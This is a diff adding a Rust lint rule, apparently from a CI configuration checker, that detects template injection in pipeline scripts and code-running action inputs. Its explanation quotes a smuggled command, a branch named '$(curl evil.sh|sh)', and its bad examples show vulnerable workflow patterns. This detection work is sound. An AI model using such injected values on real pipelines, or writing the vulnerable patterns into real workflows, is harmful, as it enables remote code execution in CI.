@@ -1,0 +1,71 @@
+//! `template-injection`
+
+use super::{Check, Example, Findings, Refused, Rule, Scope};
+use crate::finding::Severity;
+use crate::pipeline::Part;
+use crate::pipeline::step::Kind;
+use crate::source::FaultKind;
+
+/// Inputs of actions that are run as code.
+const CODE: &[(&str, &str)] = &[
+    ("actions/github-script", "with.script"),
+    ("azure/cli", "with.inlineScript"),
+    ("azure/powershell", "with.inlineScript"),
+    ("appleboy/ssh-action", "with.script"),
+];
+
+pub(super) static RULE: Rule = Rule {
+    id: "template-injection",
+    summary: "a value becomes part of a program's text",
+    why: "An expression is replaced before the shell reads the script, so a branch called `$(curl evil.sh|sh)` is a command. \
+          A value that comes in through the environment stays a value: write `env.TITLE = 'Branch` and `\"$TITLE\"`. An \
+          expression hidden in a text is seen by no check, so it has no place there either.",
+    severity: Severity::Error,
+    settings: "",
+    refused: &[Refused { kind: FaultKind::Contract, path: "jobs/*/steps/*/run" }],
+    check: Check::Project(check),
+    examples: &[
+        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "echo ${{ github.head_ref }}" }] }"#)]),
+        Example::bad(&[(
+            "ci",
+            r#"{ jobs.test.steps = [{ uses = "actions/github-script", with.script = ["console.log('", 'Branch, "')"] }] }"#,
+        )]),
+        Example::bad(&[("ci", r#"{ jobs.test.env.TITLE = "${{ github.event.pull_request.title }}" }"#)]),
+        Example::good(&[("ci", r#"{ jobs.test.steps = [{ run = "echo \"$HEAD\"", env.HEAD = 'Branch }] }"#)]),
+        Example::good(&[(
+            "ci",
+            r#"{ jobs.test.steps = [{ uses = "actions/github-script", with.script = "console.log(process.env.HEAD)", env.HEAD = 'Branch }] }"#,
+        )]),
+    ],
+};
+
+fn check(scope: &Scope<'_>, findings: &mut Findings) {
+    for (pipeline, job, step) in scope.steps() {
+        if let Kind::Run(run) = &step.kind.value
+            && run.script.contains("${{")
+        {
+            findings
+                .report(pipeline.step_identity(job, step), run.script.origin, "the commands hold an expression")
+                .key("run")
+                .help("bind the value under `env` and use the variable between double quotes");
+        }
+    }
+    for held in scope.values() {
+        let action = held.spot.step.and_then(|step| match &step.kind.value {
+            Kind::Uses(uses) => Some(uses.action.value.as_str()),
+            _ => None,
+        });
+        let code = CODE.iter().any(|(name, field)| action == Some(name) && held.field == *field);
+        for part in &held.value.parts {
+            let message = match &part.value {
+                Part::Text(text) if text.contains("${{") => "an expression is hidden in a text",
+                Part::Reference(_) if code => "this input is run as code",
+                _ => continue,
+            };
+            findings
+                .report(held.spot.identity(), part.origin, message)
+                .key(held.field.clone())
+                .help("write a reference such as 'Branch or 'Input \"name\", and hand it over through `env`");
+        }
+    }
+}
